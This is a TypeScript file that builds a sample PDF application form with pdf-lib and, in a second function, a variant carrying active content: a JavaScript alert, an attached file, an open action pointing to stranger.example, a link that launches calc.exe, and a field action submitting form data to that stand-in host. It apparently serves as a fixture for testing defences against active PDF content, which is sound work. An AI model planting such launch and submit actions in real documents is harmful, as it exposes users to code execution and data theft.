import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";

/** A form of an invented office: three lines, a box and a choice, with words of its own. */
export async function formFile(change?: (document: PDFDocument) => Promise<void> | void): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const page = document.addPage([595, 842]);
  page.drawText("Application to the Invented Office", { x: 60, y: 780, size: 16, font });
  page.drawText("Name", { x: 60, y: 725, size: 10, font });
  page.drawText("What happened", { x: 60, y: 690, size: 10, font });
  page.drawText("File number", { x: 60, y: 600, size: 10, font });
  const form = document.getForm();
  form.createTextField("applicant").addToPage(page, { x: 160, y: 718, width: 200, height: 20, font });
  const story = form.createTextField("story");
  story.enableMultiline();
  story.addToPage(page, { x: 160, y: 630, width: 300, height: 72, font });
  form.createCheckBox("urgent").addToPage(page, { x: 160, y: 560, width: 14, height: 14 });
  const language = form.createRadioGroup("language");
  language.addOptionToPage("English", page, { x: 160, y: 530, width: 14, height: 14 });
  language.addOptionToPage("isiZulu", page, { x: 200, y: 530, width: 14, height: 14 });
  await change?.(document);
  return document.save();
}

/** The same with what a stranger may have put into it: a script, an action and a file. */
export function activeForm(): Promise<Uint8Array> {
  return formFile(async (document) => {
    document.addJavaScript("start", "app.alert('SCRIPT-OF-A-STRANGER')");
    await document.attach(Buffer.from("FILE-OF-A-STRANGER"), "carried.txt", { mimeType: "text/plain" });
    const { context, catalog } = document;
    catalog.set(
      PDFName.of("OpenAction"),
      context.obj({ S: "URI", URI: PDFString.of("https://stranger.example/seen") }),
    );
    const link = context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [0, 0, 90, 90],
      A: { S: "Launch", F: PDFString.of("calc.exe") },
    });
    document.getPage(0).node.addAnnot(context.register(link));
    const [widget] = document.getForm().getTextField("applicant").acroField.getWidgets();
    widget?.dict.set(
      PDFName.of("AA"),
      context.obj({ K: { S: "JavaScript", JS: PDFString.of("this.submitForm('https://stranger.example')") } }),
    );
  });
}
